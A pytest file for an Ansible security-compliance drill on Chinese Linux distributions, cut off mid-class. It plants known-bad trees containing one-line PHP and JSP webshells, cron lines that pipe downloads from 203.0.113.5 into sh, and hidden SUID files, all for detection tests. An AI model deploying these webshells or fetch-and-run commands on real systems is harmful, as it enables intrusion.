"""The drill's self-inspection checks: the catalogue, the playbook's contract, and the
real playbook run by ansible-playbook against planted trees.

Four trees are planted, known-bad and known-good for each OS family (Kylin and
openEuler files for RedHat, UOS and deepin for Debian), plus an empty tree; tools
the checks must run (nft, iptables, chronyc, ntpq, timedatectl, apt-get, dnf, yum,
rpm) are fakes in each tree's drill_bin printing a known state. One
ansible-playbook run covers every tree and this machine's own root (drill_root
""); a second proves --check still runs the probes and --tags selects. The scripts
are also run under `bash --posix` (RedHat's /bin/sh) against the same trees.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
import yaml

from infra.drill import catalogue
from infra.errors import GovopsError

ROOT = Path(__file__).resolve().parent.parent
PLAYBOOK = ROOT / "playbooks" / "drill" / "checks.yml"
GROUP_VARS = ROOT / "inventory" / "group_vars"
CALLBACKS = Path(__file__).resolve().parent / "ansible_callbacks"
STATUSES = {"pass", "fail", "manual", "error", "n/a"}
KEYS = ["check", "status", "expected", "actual", "evidence"]
LIB = "{{ _drill_lib }}"

# Planted secrets: none of these may reach any result.
SALT = "plantedSALTxyz"
HASH = f"$6${SALT}$Q9cVhW1VGm1E0S4dF8kq3e2Z6Lr0Yy7m3Zq0GmBtTQwz1bR9uM4Lf5qW1x3eJ0hC8vN2sA7pD6oK9iU4yT0rE1"
HASH2 = f"$y$j9T${SALT}$3nX1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9t0u"

PLAY = yaml.safe_load(PLAYBOOK.read_text(encoding="utf-8"))[0]
TASKS = PLAY["tasks"]


def _ids_in_playbook() -> list[str]:
    return [t["name"].split(":", 1)[0] for t in TASKS]


# ---- the catalogue and the playbook's shape (fast) ----------------------------


def test_catalogue_has_enough_checks_and_clauses() -> None:
    checks = catalogue.load()
    assert len(checks) >= 25
    assert sum(1 for c in checks if c.mlps_ref) >= 15
    assert len({c.id for c in checks}) == len(checks)
    for c in checks:
        assert c.severity in catalogue.SEVERITIES
        assert set(c.os_families) <= {"RedHat", "Debian"} and c.os_families
        assert c.mlps_ref == "" or re.fullmatch(r"8\.1\.4\.[1-5] [a-f]\)", c.mlps_ref), c


def test_catalogue_and_playbook_name_the_same_checks_in_order() -> None:
    checks = catalogue.load()
    assert _ids_in_playbook() == [c.id for c in checks]
    assert [t["name"] for t in TASKS] == [f"{c.id}: {c.title}" for c in checks]


def test_every_task_keeps_the_contract() -> None:
    assert PLAY["hosts"] == "all"
    assert PLAY["gather_facts"] is False
    for task in TASKS:
        check_id = task["name"].split(":", 1)[0]
        assert task["tags"] == [check_id]
        assert task["check_mode"] is False
        assert task["changed_when"] is False
        assert task["failed_when"] is False
        modules = [k for k in task if k.startswith("ansible.")]
        assert modules == ["ansible.builtin.shell"], task["name"]
        cmd = task["ansible.builtin.shell"]["cmd"]
        # the id set first, then the helpers; no other Jinja in the script
        assert cmd.startswith(f"CHECK={check_id}\n{LIB}\n"), task["name"]
        rest = cmd.replace(LIB, "")
        for mark in ("{{", "{%", "{#"):
            assert mark not in rest, (task["name"], mark)
    lib = PLAY["vars"]["_drill_lib"]
    for mark in ("{{", "{%", "{#"):
        assert mark not in lib


def test_every_tunable_the_playbook_reads_has_a_documented_default() -> None:
    text = (GROUP_VARS / "all.yml").read_text(encoding="utf-8")
    defaults = yaml.safe_load(text)
    used = set(re.findall(r"\b(drill_[a-z_]+)\b", yaml.safe_dump(PLAY["environment"])))
    assert used <= set(defaults), used - set(defaults)
    assert defaults["drill_root"] == "" and defaults["drill_bin"] == ""
    lines = text.splitlines()
    for key in sorted(k for k in defaults if k.startswith("drill_")):
        at = next(i for i, line in enumerate(lines) if line.startswith(f"{key}:"))
        above = lines[at - 1]
        # a comment right above each key, or the key continues a commented group
        assert above.startswith("#") or lines[at - 1].split(":")[0].startswith("drill_"), key


def test_select_picks_in_catalogue_order_and_refuses_unknown_ids() -> None:
    picked = catalogue.select(["ssh-root-login", " acct-uid0 ", "ssh-root-login"])
    assert [c.id for c in picked] == ["acct-uid0", "ssh-root-login"]
    assert catalogue.select(None) == catalogue.load()
    assert catalogue.select([]) == catalogue.load()
    with pytest.raises(catalogue.UnknownCheck) as err:
        catalogue.select(["acct-uid0", "no-such-check", "bad\n--id"])
    assert isinstance(err.value, GovopsError)
    message = str(err.value)
    assert "\n" not in message and "no-such-check" in message and "acct-uid0" in message


def test_catalogue_errors_name_each_problem_with_its_line(tmp_path: Path) -> None:
    bad = tmp_path / "checks.yaml"
    bad.write_text(
        "version: 1\n"
        "checks:\n"
        "  - id: Bad_Id\n"
        "    title: t\n"
        "    mlps_ref: '9.9 z)'\n"
        "    severity: urgent\n"
        "    os_families: [RedHat, Solaris]\n"
        "  - id: ok-one\n"
        "    title: t\n"
        "    mlps_ref: ''\n"
        "    severity: low\n"
        "    os_families: [Debian]\n"
        "    extra: 1\n"
        "  - id: ok-two\n"
        "    title: t\n"
        "    mlps_ref: ''\n"
        "    severity: low\n"
        "    os_families: [Debian]\n"
        "  - id: ok-two\n"
        "    title: t\n"
        "    mlps_ref: ''\n"
        "    severity: low\n"
        "    os_families: [Debian]\n",
        encoding="utf-8",
    )
    with pytest.raises(catalogue.CatalogueError) as err:
        catalogue.load(bad)
    lines = [line for line, _ in err.value.errors]
    assert lines == [3, 5, 6, 7, 13, 19]
    assert "\n" not in str(err.value)


def test_playbook_passes_syntax_check(tmp_path: Path) -> None:
    proc = subprocess.run(
        ["ansible-playbook", "--syntax-check", "-i", "localhost,", str(PLAYBOOK)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env=_ansible_env(tmp_path),
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


# ---- the JSON emitter against hostile values (fast) ---------------------------

HOSTILE = (
    b'q"uote b\\ack n\nl t\tab r\rcr bel\x07 del\x7f '
    + "中文 😀 ".encode()
    + b"bad\xff\xfe trunc\xe4\xb8 over\xc0\xaf surr\xed\xa0\x80 end"
)


def _awks() -> list[str]:
    return [a for a in ("mawk", "gawk", "original-awk", "busybox") if shutil.which(a)]


@pytest.mark.parametrize("shell", ["sh", "bash"])
@pytest.mark.parametrize("awk", _awks())
def test_emit_writes_one_ascii_json_line_whatever_the_bytes(
    tmp_path: Path, shell: str, awk: str
) -> None:
    if not shutil.which(shell):
        pytest.skip(f"no {shell}")
    tools = tmp_path / "bin"
    tools.mkdir()
    if awk == "busybox":
        (tools / "awk").write_text('#!/bin/sh\nexec busybox awk "$@"\n')
        (tools / "awk").chmod(0o755)
    else:
        (tools / "awk").symlink_to(shutil.which(awk))  # type: ignore[arg-type]
    key = b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"
    unterminated = b"x -----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA"
    script = "CHECK=emit-test\n" + PLAY["vars"]["_drill_lib"] + 'emit fail "$E" "$A" "$V"\n'
    env = {k.encode(): v.encode() for k, v in os.environ.items()}
    env.update(
        {
            b"DRILL_BIN": str(tools).encode(),
            b"DRILL_COMMAND_TIMEOUT": b"5",
            b"E": HOSTILE,
            b"A": b"hash " + HASH.encode() + b" and " + HASH2.encode() + b" " + key,
            b"V": b"long " + b"x" * 5000 + unterminated,
        }
    )
    argv = [shell, "--posix", "-c", script] if shell == "bash" else [shell, "-c", script]
    proc = subprocess.run(argv, capture_output=True, env=env)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout.decode("ascii")  # pure ASCII
    assert out.count("\n") == 1
    doc = json.loads(out)
    assert list(doc) == KEYS
    assert doc["check"] == "emit-test" and doc["status"] == "fail"
    expected = doc["expected"]
    assert expected.startswith('q"uote b\\ack n\nl t\tab r\rcr bel\x07 del\x7f 中文 😀 bad')
    assert "\ufffd" in expected and expected.endswith(" end")
    assert "over\ufffd\ufffd" in expected and "surr\ufffd\ufffd\ufffd" in expected
    assert SALT not in doc["actual"] and "PRIVATE KEY" not in doc["actual"]
    assert "b3BlbnNzaC1rZXktdjEAAAAA" not in doc["actual"]
    assert doc["actual"].count("[hash removed]") == 2
    assert len(doc["evidence"]) <= 2000 and doc["evidence"].endswith("\u2026")
    assert "PRIVATE KEY" not in doc["evidence"] and "MIIEowIBAAKCAQEA" not in doc["evidence"]


# ---- planted trees -------------------------------------------------------------

TOOLS = ("nft", "iptables", "chronyc", "ntpq", "timedatectl", "apt-get", "dnf", "yum", "rpm")


def _w(root: Path, rel: str, content: str | bytes, mode: int = 0o644) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, str):
        content = content.encode()
    path.write_bytes(content)
    path.chmod(mode)
    return path


def _link(root: Path, rel: str, target: str) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


def _tool(bin_dir: Path, name: str, stdout: str = "", rc: int = 0) -> None:
    """A fake tool printing `stdout` and exiting `rc`, whatever its arguments."""
    _w(bin_dir, name, f"#!/bin/sh\ncat <<'GOVOPS_EOF'\n{stdout}GOVOPS_EOF\nexit {rc}\n", 0o755)


def _tools(bin_dir: Path, **states: tuple[str, int]) -> None:
    """Every tool a check may run: the given states, the rest absent (exit 127)."""
    for name in TOOLS:
        out, rc = states.get(name.replace("-", "_"), ("", 127))
        _tool(bin_dir, name, out, rc)


def _procs(root: Path, names: list[str]) -> None:
    for pid, name in enumerate(["systemd", *names], start=1):
        _w(root, f"proc/{pid * 100 + 1}/comm", name + "\n")


TCP_HEADER = (
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt"
    "   uid  timeout inode\n"
)


def _sock(sl: int, local: str, remote: str, state: str) -> str:
    return (
        f"{sl:4d}: {local} {remote} {state} 00000000:00000000 00:00000000 00000000"
        "     0        0 12345 1 0000000000000000 100 0 0 10 0\n"
    )


V6_ANY = "00000000000000000000000000000000"
V6_LO = "00000000000000000000000001000000"
V6_MAPPED = "0000000000000000FFFF0000"  # ::ffff:a.b.c.d; the last word follows

SSHD_GOOD_RH = (
    "# RedHat style: drop-ins first, the first value wins\n"
    "Include /etc/ssh/sshd_config.d/*.conf\n"
    "PermitRootLogin yes\n"
    "Subsystem sftp /usr/libexec/openssh/sftp-server\n"
    "Match User backup\n"
    "    PasswordAuthentication yes\n"
    "    PermitRootLogin yes\n"
)
SSHD_GOOD_RH_DROPIN = (
    "PermitRootLogin no\n"
    "PasswordAuthentication no\n"
    "KbdInteractiveAuthentication no\n"
    "PermitEmptyPasswords no\n"
    "MaxAuthTries 3\n"
    "UsePAM yes\n"
)
SSHD_GOOD_DEB = (
    "PermitRootLogin=no\n"
    "passwordauthentication   no\n"
    "ChallengeResponseAuthentication no\n"
    "UsePAM yes\n"
    "MaxAuthTries=4\n"
    "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n"
)
SSHD_BAD_RH = (
    "PermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\nMaxAuthTries 10\n"
)
SSHD_BAD_DEB_DROPIN = (
    "PermitRootLogin yes\nPasswordAuthentication no\nUsePAM yes\nPermitEmptyPasswords yes\n"
)

PAM_RH_GOOD = (
    "auth        required      pam_env.so\n"
    "auth        required      pam_faillock.so preauth silent\n"
    "auth        sufficient    pam_unix.so\n"
    "auth        [default=die] pam_faillock.so authfail\n"
    "auth        required      pam_deny.so\n"
    "account     required      pam_faillock.so\n"
    "password    requisite     pam_pwquality.so local_users_only\n"
    "password    sufficient    pam_unix.so sha512 shadow use_authtok\n"
)

NFT_FIREWALLD = """table inet firewalld {
\tchain filter_INPUT {
\t\ttype filter hook input priority filter + 10; policy accept;
\t\tct state { established, related } accept
\t\tct state invalid drop
\t\tiifname "lo" accept
\t\tjump filter_INPUT_ZONES
\t\treject with icmpx admin-prohibited
\t}
}
"""
NFT_OPEN = """table inet filter {
\tchain input {
\t\ttype filter hook input priority filter; policy accept;
\t\tct state invalid drop
\t}
\tchain output {
\t\ttype filter hook output priority filter; policy drop;
\t}
}
"""

WEBSHELL_PHP = "<?php @eval($_POST['cmd']); ?>\n"
WEBSHELL_JSP = '<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n'
HOSTILE_JSP_NAME = 'a"b\\\nc.jsp'


class Keys:
    """Two ed25519 key pairs: `ok` is on the approved list, `bad` is not."""

    def __init__(self, where: Path) -> None:
        where.mkdir()
        self.files: dict[str, Path] = {}
        self.fp: dict[str, str] = {}
        for name in ("ok", "bad"):
            path = where / name
            subprocess.run(
                [
                    "ssh-keygen",
                    "-q",
                    "-t",
                    "ed25519",
                    "-N",
                    "",
                    "-C",
                    f'c"{name}\\x',
                    "-f",
                    str(path),
                ],
                check=True,
            )
            self.files[name] = path
            out = subprocess.run(
                ["ssh-keygen", "-lf", str(path) + ".pub"],
                capture_output=True,
                text=True,
                check=True,
            ).stdout
            self.fp[name] = out.split()[1]

    def pub(self, name: str) -> str:
        return Path(f"{self.files[name]}.pub").read_text()

    def private(self, name: str) -> str:
        return self.files[name].read_text()

    def secrets(self) -> list[str]:
        """Strings of key material: the private keys' body lines, the public key blobs."""
        out = []
        for name in self.files:
            out += [ln for ln in self.private(name).splitlines() if ln and "-----" not in ln]
            out.append(self.pub(name).split()[1])
        return out


def plant(root: Path, bin_dir: Path, family: str, good: bool, keys: Keys) -> None:
    """A RedHat (Kylin/openEuler) or Debian (UOS/deepin) tree where every check
    passes (`good`) or fails."""
    rh = family == "RedHat"
    # identity: os-release without ID_LIKE, so the release files or the ID decide
    if rh and good:
        _w(root, "etc/os-release", 'NAME="openEuler"\nID="openEuler"\nVERSION_ID="22.03"\n')
    elif rh:
        _w(
            root,
            "etc/os-release",
            'NAME="Kylin Linux Advanced Server"\nID="kylin"\nVERSION_ID="V10"\n',
        )
        _w(root, "etc/kylin-release", "Kylin Linux Advanced Server release V10 (Lance)\n")
    elif good:
        _w(root, "etc/os-release", 'NAME="Deepin"\nID=deepin\nVERSION_ID="20.9"\n')
        _w(root, "etc/debian_version", "10.10\n")
    else:
        _w(root, "etc/os-release", 'NAME="UOS Server"\nID=uos\nVERSION_ID="20"\n')

    # accounts
    passwd = "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n"
    shadow = (
        f"root:{HASH}:19000:1:90:7:::\nbin:*:19000:0:99999:7:::\nalice:{HASH2}:19000:1:60:7:::\n"
    )
    if good:
        _w(root, "etc/passwd", passwd, 0o644)
        _w(root, "etc/shadow", shadow, 0o000 if rh else 0o640)
        _w(
            root,
            "etc/login.defs",
            "MAIL_DIR /var/spool/mail\nPASS_MAX_DAYS   90\nPASS_MIN_DAYS 1\n",
        )
    else:
        _w(
            root,
            "etc/passwd",
            passwd.encode()
            + b"toor:x:0:0::/root:/bin/bash\n"
            + b'ev"il\\user:x:1001:1001::/home/evil:/bin/sh\n'
            + b"\xff\xfebytes:x:1002:1002::/home/bytes:/bin/sh\n"
            + b"nopass::1003:1003::/home/nopass:/bin/sh\n",
            0o666,
        )
        _w(
            root,
            "etc/shadow",
            f"root:{HASH}:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\ntoor:{HASH2}:19000::::::\n".encode()
            + b'ev"il\\user::19000:0:99999:7:::\n'
            + b"\xff\xfebytes::19000:0:99999:7:::\n"
            + b"nopass:!:19000:0:99999:7:::\n",
            0o644,
        )
        _w(root, "etc/login.defs", "PASS_MAX_DAYS\t99999\n")

    # PAM: password quality and lockout
    if rh:
        _w(root, "etc/security/pwquality.conf", "# minlen = 8\nminlen = 6\n")
        if good:
            _w(root, "etc/security/pwquality.conf.d/50-govops.conf", "minlen = 10\nminclass = 3\n")
            _w(root, "etc/security/faillock.conf", "# deny = 3\ndeny = 5\nunlock_time = 900\n")
            # authselect: absolute links into /etc/authselect, followed inside the tree
            _w(root, "etc/authselect/system-auth", PAM_RH_GOOD)
            _w(
                root,
                "etc/authselect/password-auth",
                PAM_RH_GOOD.replace("local_users_only", "minlen=8"),
            )
            _link(root, "etc/pam.d/system-auth", "/etc/authselect/system-auth")
            _link(root, "etc/pam.d/password-auth", "/etc/authselect/password-auth")
        else:
            _w(
                root,
                "etc/pam.d/system-auth",
                "auth required pam_faillock.so preauth deny=10\n"
                "auth sufficient pam_unix.so\n"
                "auth [default=die] pam_faillock.so authfail deny=10\n"
                "password requisite pam_pwquality.so retry=3\n",
            )
            _w(
                root,
                "etc/pam.d/password-auth",
                "auth sufficient pam_unix.so\npassword sufficient pam_unix.so\n",
            )
    elif good:
        _w(
            root,
            "etc/pam.d/common-auth",
            "auth required pam_faillock.so preauth deny=5 unlock_time=600\n"
            "auth [success=1 default=ignore] pam_unix.so nullok\n"
            "auth [default=die] pam_faillock.so authfail\n"
            "auth requisite pam_deny.so\n",
        )
        _w(
            root,
            "etc/pam.d/common-password",
            "password requisite pam_pwquality.so retry=3 minlen=12 dcredit=-1 ucredit=-1 lcredit=-1 ocredit=-1\n"
            "password [success=1 default=ignore] pam_unix.so obscure yescrypt\n",
        )
    else:
        _w(
            root,
            "etc/pam.d/common-auth",
            "auth required pam_tally2.so onerr=fail\nauth [success=1 default=ignore] pam_unix.so nullok\n",
        )
        _w(
            root,
            "etc/pam.d/common-password",
            "#password requisite pam_pwquality.so minlen=12\npassword [success=1 default=ignore] pam_unix.so obscure sha512\n",
        )

    # session timeout
    _w(root, "etc/profile", "# /etc/profile\nexport PATH\n")
    if good:
        _w(
            root,
            "etc/profile.d/tmout.sh",
            "# idle shells end\nTMOUT=600\nreadonly TMOUT\nexport TMOUT\n",
        )
    elif not rh:
        _w(root, "etc/bash.bashrc", "export TMOUT=0\n# TMOUT=300\n")

    # sshd
    if rh and good:
        _w(root, "etc/ssh/sshd_config", SSHD_GOOD_RH, 0o600)
        _w(root, "etc/ssh/sshd_config.d/50-govops.conf", SSHD_GOOD_RH_DROPIN, 0o600)
    elif rh:
        _w(root, "etc/ssh/sshd_config", SSHD_BAD_RH, 0o666)
    elif good:
        _w(root, "etc/ssh/sshd_config", SSHD_GOOD_DEB, 0o644)
    else:
        _w(root, "etc/ssh/sshd_config", "Include sshd_config.d/*.conf\nMaxAuthTries 3\n", 0o664)
        _w(root, "etc/ssh/sshd_config.d/10-site.conf", SSHD_BAD_DEB_DROPIN + "MaxAuthTries 6\n")

    # audit
    if good:
        _w(
            root,
            "etc/audit/rules.d/govops.rules",
            "-D\n-b 8192\n-w /etc/passwd -p wa -k identity\n"
            "-a always,exit -F arch=b64 -F path=/etc/shadow -F perm=wa -k identity\n-e 2\n",
        )
        _w(root, "etc/audit/auditd.conf", "log_file = /var/log/audit/audit.log\nnum_logs = 5\n")
        _w(root, "var/log/audit/audit.log", "type=DAEMON_START\n", 0o600)
        (root / "var/log/audit").chmod(0o700)
    elif rh:
        _w(root, "etc/audit/audit.rules", "-D\n-b 8192\n")
        _w(root, "var/log/audit/audit.log", "type=DAEMON_START\n", 0o644)
        (root / "var/log/audit").chmod(0o755)
    else:
        _w(root, "etc/audit/rules.d/a.rules", "-w /etc/passwd -p wa\n-e 2\n-e 1\n")
        _w(root, "etc/audit/auditd.conf", "log_file = /var/log/audit/custom.log\n")
        _w(root, "var/log/audit/custom.log", "type=DAEMON_START\n", 0o604)
        (root / "var/log/audit").chmod(0o700)

    # syslog: rsyslog on RedHat, syslog-ng on Debian's good tree
    if rh:
        _w(
            root,
            "etc/rsyslog.conf",
            "*.info;mail.none /var/log/messages\n#*.* @@loghost:514\n$ActionQueueType LinkedList\n",
        )
        if good:
            _w(root, "etc/rsyslog.d/remote.conf", "*.* @@(o)10.1.2.3:514\n")
    elif good:
        _w(
            root,
            "etc/syslog-ng/syslog-ng.conf",
            'source s_net { network(ip("0.0.0.0")); };\n'
            "destination d_remote {\n"
            '    network("10.1.2.3" transport("tcp") port(514));\n'
            "};\n"
            "log { source(s_src); destination(d_remote); };\n",
        )
    else:
        _w(root, "etc/rsyslog.conf", "*.* /var/log/syslog\n")
        _w(root, "etc/syslog-ng/syslog-ng.conf", 'source s_net { network(ip("0.0.0.0")); };\n')

    # log retention
    _w(
        root,
        "etc/logrotate.conf",
        "# rotate log files weekly\nweekly\nrotate 4\ncreate\ninclude /etc/logrotate.d\n",
    )
    if rh:
        for log in ("messages", "secure", "cron"):
            _w(root, f"var/log/{log}", "")
        extra = "    monthly\n    rotate 7\n" if good else ""
        _w(
            root,
            "etc/logrotate.d/rsyslog",
            "/var/log/cron\n/var/log/messages\n/var/log/secure\n{\n"
            + extra
            + "    missingok\n    sharedscripts\n    postrotate\n"
            "        /usr/bin/systemctl kill -s HUP rsyslog.service >/dev/null 2>&1 || true\n"
            "    endscript\n}\n",
        )
    else:
        for log in ("syslog", "auth.log"):
            _w(root, f"var/log/{log}", "")
        if good:
            _w(
                root,
                "etc/logrotate.d/rsyslog",
                "/var/log/syslog\n{\n\trotate 30\n\tweekly\n}\n/var/log/auth.log {\n\tdaily\n\trotate 400\n\tmaxage 200\n}\n",
            )
        else:
            _w(
                root,
                "etc/logrotate.d/rsyslog",
                "/var/log/syslog\n{\n\trotate 7\n\tdaily\n}\n/var/log/auth.log {\n\tdaily\n\trotate 365\n\tmaxage 30\n}\n",
            )

    # processes and sockets
    if good:
        names = ["auditd", "sshd"] + (
            ["rsyslogd", "chronyd"] if rh else ["syslog-ng", "systemd-timesyn"]
        )
    else:
        names = ["bash"] + (["in.telnetd", "ntpd"] if rh else ["systemd-timesyn"])
    _procs(root, names)
    if good:
        tcp = (
            TCP_HEADER
            + _sock(0, "00000000:0016", "00000000:0000", "0A")
            + _sock(1, "0100007F:1538", "00000000:0000", "0A")
            + _sock(2, "0A01A8C0:0016", "0101A8C0:D431", "01")
        )
        tcp6 = (
            TCP_HEADER
            + _sock(0, f"{V6_ANY}:0016", f"{V6_ANY}:0000", "0A")
            + _sock(1, f"{V6_LO}:0277", f"{V6_ANY}:0000", "0A")
            + _sock(2, f"{V6_MAPPED}0100007F:1F90", f"{V6_ANY}:0000", "0A")
        )
    else:
        tcp = (
            TCP_HEADER
            + _sock(0, "00000000:0016", "00000000:0000", "0A")
            + _sock(1, "00000000:0017", "00000000:0000", "0A")
        )
        tcp6 = (
            TCP_HEADER
            + _sock(0, f"{V6_ANY}:0CEA", f"{V6_ANY}:0000", "0A")
            + _sock(1, f"{V6_MAPPED}0302010A:20FB", f"{V6_ANY}:0000", "0A")
        )
    _w(root, "proc/net/tcp", tcp)
    _w(root, "proc/net/tcp6", tcp6)

    # unneeded services
    _link(
        root,
        "etc/systemd/system/multi-user.target.wants/sshd.service",
        "/usr/lib/systemd/system/sshd.service",
    )
    _w(root, "etc/xinetd.d/telnet", "service telnet\n{\n\tdisable = yes\n}\n")
    if not good and rh:
        _link(
            root,
            "etc/systemd/system/multi-user.target.wants/vsftpd.service",
            "/usr/lib/systemd/system/vsftpd.service",
        )
        _link(
            root,
            "etc/systemd/system/sockets.target.wants/rsh.socket",
            "/usr/lib/systemd/system/rsh.socket",
        )
    elif not good:
        _w(
            root,
            "etc/inetd.conf",
            "#shell stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.rshd\ntelnet stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.telnetd\n",
        )
        _w(root, "etc/xinetd.d/tftp", "service tftp\n{\n\tdisable = no\n}\n")

    # packages
    if not rh:
        status = "Package: openssh-server\nStatus: install ok installed\n\nPackage: telnetd\nStatus: deinstall ok config-files\n\n"
        if not good:
            status += "Package: nis\nStatus: install ok installed\n\nPackage: telnetd-ssl\nStatus: hold ok installed\n\n"
        _w(root, "var/lib/dpkg/status", status)
        _w(root, "var/lib/apt/lists/mirror_dists_stable_main_binary-amd64_Packages", "")

    # the tools' states
    states: dict[str, tuple[str, int]] = {}
    if rh:
        states["rpm"] = ("bash\nopenssh-server\n" + ("" if good else "telnet-server\nvsftpd\n"), 0)
        states["nft"] = (NFT_FIREWALLD if good else NFT_OPEN, 0)
        states["iptables"] = (
            "-P INPUT ACCEPT\n-P FORWARD DROP\n-P OUTPUT ACCEPT\n-A FORWARD -j REJECT\n",
            0,
        )
        states["chronyc"] = (
            "Reference ID    : 0A010203 (10.1.2.3)\nStratum         : 3\nLeap status     : Normal\n",
            0,
        )
        states["ntpq"] = (
            "     remote           refid      st t when poll reach   delay   offset  jitter\n"
            "==============================================================================\n"
            " 10.1.2.3        .INIT.          16 u    -   64    0    0.000    0.000   0.000\n",
            0,
        )
        states["dnf"] = (
            "" if good else "KYSA-2024:0012 Important/Sec. openssl-1:1.1.1f-15.ky10.x86_64\n",
            0,
        )
    else:
        states["nft"] = ("Error: Operation not permitted\n", 1)
        states["iptables"] = (
            "-P INPUT DROP\n-P FORWARD DROP\n-P OUTPUT ACCEPT\n-A INPUT -i lo -j ACCEPT\n"
            if good
            else "-P INPUT ACCEPT\n-P FORWARD ACCEPT\n-P OUTPUT ACCEPT\n-A INPUT -m conntrack --ctstate INVALID -j DROP\n",
            0,
        )
        states["timedatectl"] = ("no\n", 0)
        if good:
            _w(root, "run/systemd/timesync/synchronized", "")
        upgrades = "Reading package lists...\nInst tzdata [2024a-0+deb12u1] (2025b-0+deb12u1 Debian:12.11/stable [all])\nConf tzdata\n"
        if not good:
            upgrades += "Inst openssl [3.0.11-1~deb12u2] (3.0.16-1~deb12u1 Debian-Security:12/stable-security [amd64])\n"
        states["apt_get"] = (upgrades, 0)
    _tools(bin_dir, **states)

    # cron
    _w(
        root,
        "etc/crontab",
        "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    )
    _w(root, "etc/cron.d/0hourly", "01 * * * * root run-parts /etc/cron.hourly\n")
    if rh and good:
        # a Debian-path spool is not where RedHat's cron reads
        _w(root, "var/spool/cron/crontabs/decoy", "* * * * * curl -s http://203.0.113.5/x | sh\n")
        _w(root, "var/spool/cron/root", "30 2 * * * /usr/local/bin/backup.sh\n", 0o600)
    elif rh:
        _w(
            root,
            "var/spool/cron/root",
            "*/5 * * * * curl -fsSL http://203.0.113.5/x.sh | sh\n",
            0o600,
        )
        _w(root, "etc/cron.d/hostile", f"0 3 * * * root echo '{HASH}' | base64 -d > /tmp/\"x\\y\n")
    elif good:
        # a RedHat-path spool is not where Debian's cron reads
        _w(root, "var/spool/cron/root", "* * * * * wget -q -O- http://203.0.113.5/x | sh\n")
        _w(root, "var/spool/cron/crontabs/root", "30 2 * * * /usr/local/bin/backup.sh\n", 0o600)
    else:
        _w(root, "var/spool/cron/crontabs/root", "@reboot /dev/shm/.x/kworker\n", 0o600)

    # authorized keys (the approved list is the host's drill_ssh_approved_fingerprints)
    ok_line = 'from="10.0.0.0/8",no-pty ' + keys.pub("ok")
    _w(root, "home/alice/.ssh/id_ed25519", keys.private("ok"), 0o600)
    if good:
        _w(root, "home/alice/.ssh/authorized_keys", ok_line + "\n# a comment\n", 0o600)
        if not rh:
            _w(root, "etc/ssh/keys/alice", keys.pub("ok"))
    else:
        _w(root, "home/alice/.ssh/authorized_keys", ok_line + keys.pub("bad"), 0o600)
        # a private key where a public one belongs: ssh-keygen -l shows its fingerprint only
        _w(root, "root/.ssh/authorized_keys2", keys.private("bad"), 0o600)

    # web roots
    _w(root, "var/www/html/index.php", "<?php echo 'hello'; ?>\n")
    if not good:
        _w(root, "var/www/html/uploads/x.php", WEBSHELL_PHP)
        _w(root, "var/www/html/uploads/" + HOSTILE_JSP_NAME, WEBSHELL_JSP)
        _w(root, "usr/share/nginx/html/s.aspx", 'string k = "e45e329feb5d925b";\n')

    # SUID programs
    _w(root, "usr/bin/passwd", "", 0o4755)
    _w(root, "usr/bin/ls", "", 0o755)
    if rh:
        _link(root, "bin", "usr/bin")  # merged /usr: /bin is skipped, not scanned twice
    else:
        _w(root, "bin/su", "", 0o4755)
    if not good:
        _w(root, "usr/local/bin/.hidden", "", 0o4755)
        if not rh:
            _w(root, "bin/bash.bak", "", 0o6755)
            _w(root, "usr/local/sbin/x\ny", "", 0o4755)


# ---- running the playbook ------------------------------------------------------


def _ansible_env(tmp: Path) -> dict[str, str]:
    env = dict(os.environ)
    env.update(
        {
            "ANSIBLE_CALLBACK_PLUGINS": str(CALLBACKS),
            "ANSIBLE_STDOUT_CALLBACK": "govops_json",
            "ANSIBLE_LOCAL_TEMP": str(tmp / "ansible-local"),
            "ANSIBLE_REMOTE_TEMP": str(tmp / "ansible-remote"),
            "ANSIBLE_NOCOLOR": "1",
            "ANSIBLE_RETRY_FILES_ENABLED": "0",
        }
    )
    env.pop("ANSIBLE_CONFIG", None)
    return env


def _play(tmp: Path, inventory: Path, *args: str) -> list[dict[str, Any]]:
    proc = subprocess.run(
        ["ansible-playbook", "-i", str(inventory), "-f", "8", *args, str(PLAYBOOK)],
        capture_output=True,
        text=True,
        cwd=tmp,
        env=_ansible_env(tmp),
        timeout=900,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    doc = json.loads(proc.stdout[proc.stdout.index('{"results"') :])
    results: list[dict[str, Any]] = doc["results"]
    return results


def _parse(result: dict[str, Any]) -> dict[str, str]:
    """The contract: the task's stdout's last line is the JSON object."""
    assert result["status"] == "ok", result
    assert result["changed"] is False
    last = result["stdout"].splitlines()[-1]
    doc = json.loads(last)
    assert list(doc) == KEYS, doc
    assert all(isinstance(v, str) for v in doc.values())
    assert doc["status"] in STATUSES
    assert len(doc["evidence"]) <= 2000
    last.encode("ascii")
    return doc


HOSTS = {
    "rh-bad": ("RedHat", False),
    "rh-good": ("RedHat", True),
    "deb-bad": ("Debian", False),
    "deb-good": ("Debian", True),
}


class Drill:
    def __init__(self, base: Path) -> None:
        self.base = base
        self.keys = Keys(base / "keys")
